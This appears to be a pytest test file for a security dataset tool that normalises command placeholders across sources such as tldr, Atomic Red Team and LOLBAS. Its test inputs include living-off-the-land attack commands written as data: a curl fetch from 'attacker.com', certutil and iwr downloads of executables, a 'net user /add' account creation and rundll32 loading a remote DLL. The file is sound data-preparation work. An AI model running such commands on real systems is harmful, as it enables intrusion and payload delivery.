"""Placeholder normalisation: every source's syntax maps to one neutral form."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from distilsec.data.example import Example
from distilsec.data.placeholders import normalise_example, normalise_placeholders

N = normalise_placeholders

FRAGMENTS = [
    "{{", "}}", "{", "}", "#{", "#", "[", "]", "|", "...", "path/to/", "/path/to/", "path\\to\\", "PATH",
    "PATH_ABSOLUTE", ":.exe", ":folder", "REMOTEURL", "CMD", "<", ">", "<<", "TARGET_IP", "USER_NAME",
    "-d", "--domain", "file1", "file.txt", "url", "dir", "$", "@", "%", "\\", "C:", "x", "y", " ", "\n",
    "\t", ":", "=", "'", '"', "ENTER", "~", ".", "to", "path",
]  # fmt: skip
placeholder_soup = st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join)
any_text = st.one_of(placeholder_soup, st.text(max_size=200))


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        # tldr
        ("cat {{path/to/file}}", "cat file"),
        ("dig {{[-d|--domain]}} {{example.com}}", "dig -d example.com"),
        ("cp {{path/to/file1 path/to/file2 ...}} {{path/to/directory}}", "cp file file dir"),
        ("git {{[ls|list]}} {{user_name}}", "git ls username"),
        ("type {{path\\to\\file.txt}}", "type file.txt"),
        ("curl {{url}}", "curl http://example.com/file"),
        ("tlmgr install {{package}} {{...}}", "tlmgr install package"),
        ("kill {{100}}", "kill 100"),
        # Atomic Red Team
        ("cat #{input_file} > #{output_folder}", "cat file > dir"),
        ("iwr #{remote_url} -OutFile #{exe_path}", "iwr http://example.com/file -OutFile file.exe"),
        ("net user #{user_name} #{password} /add", "net user username password /add"),
        # LOLBAS
        (
            "certutil -urlcache -f {REMOTEURL:.exe} {PATH:.exe}",
            "certutil -urlcache -f http://example.com/file.exe file.exe",
        ),
        ("cmd /c {CMD}", "cmd /c command"),
        ("xcopy {PATH_ABSOLUTE:folder} {PATH_ABSOLUTE}", "xcopy dir file"),
        ("rundll32 {PATH_SMB:.dll},Main", "rundll32 \\\\server\\share\\file.dll,Main"),
        # GTFOBins / NL2Bash
        ("csvtool trim t /path/to/input-file", "csvtool trim t file"),
        (
            "curl http://attacker.com/path/to/input-file -o /path/to/temp-dir/",
            "curl http://attacker.com/file -o dir/",
        ),
        ("find /path/to/dir/* -type f", "find dir/* -type f"),
        ("python3 ~/path/to/script.py", "python3 ~/file.py"),
        # LOOBins
        ("ssh user@<TARGET_IP> -p <PASSWORD>", "ssh user@target_ip -p password"),
    ],
)
def test_each_convention(raw: str, expected: str) -> None:
    assert N(raw) == expected


@pytest.mark.parametrize(
    "text",
    [
        "find . -name '*.py' -exec rm {} \\;",
        "echo ${HOME} ${VAR:-x} %{y}",
        "ls -la /home/user",
        "Get-Process | ?{$_.Name -eq 'x'}",
        '$wsh.SendKeys("{ENTER}")',
        "perl -e 'while(<STDIN>){print}'",
        "cat <<EOF",
        "xwizard RunWizard {00000001-0000-0000-0000-0000FEEDACDC}",
        "",
    ],
)
def test_real_syntax_is_left_alone(text: str) -> None:
    assert N(text) == text


@pytest.mark.parametrize(
    "variants",
    [
        [
            "cat {{path/to/file}}",
            "cat #{input_file}",
            "cat {PATH}",
            "cat /path/to/input-file",
            "cat #{file_path}",
        ],
        ["run {{path/to/file.exe}}", "run {PATH:.exe}", "run #{exe_path}", "run {PATH_ABSOLUTE:.exe}"],
        ["get {{url}}", "get #{remote_url}", "get {REMOTEURL}"],
        [
            "ls {{path/to/directory}}",
            "ls #{output_folder}",
            "ls {PATH_ABSOLUTE:folder}",
            "ls /path/to/temp-dir",
        ],
        ["id {{username}}", "id #{user_name}", "id <USER_NAME>", "id {{user}}"],
        ["sh -c {{command}}", "sh -c #{command}", "sh -c {CMD}"],
    ],
)
def test_same_concept_looks_alike_across_sources(variants: list[str]) -> None:
    assert len({N(v) for v in variants}) == 1, [N(v) for v in variants]


def test_normalise_example_keeps_id_and_fields() -> None:
    ex = Example("cat {{path/to/file}}", "benign", group="cat", source="tldr", platform="linux")
    out = normalise_example(ex)
    assert out.text == "cat file"
    assert (out.id, out.label, out.group, out.source, out.platform) == (
        ex.id,
        "benign",
        "cat",
        "tldr",
        "linux",
    )


def test_non_str_does_not_raise() -> None:
    assert N(None) == ""  # type: ignore[arg-type]
    assert N(12) == "12"  # type: ignore[arg-type]


@settings(max_examples=600, deadline=None)
@given(any_text)
def test_never_raises_idempotent_and_syntax_free(text: str) -> None:
    once = N(text)
    assert isinstance(once, str)
    assert N(once) == once
    for marker in ("{{", "#{", "/path/to/"):
        assert marker not in once
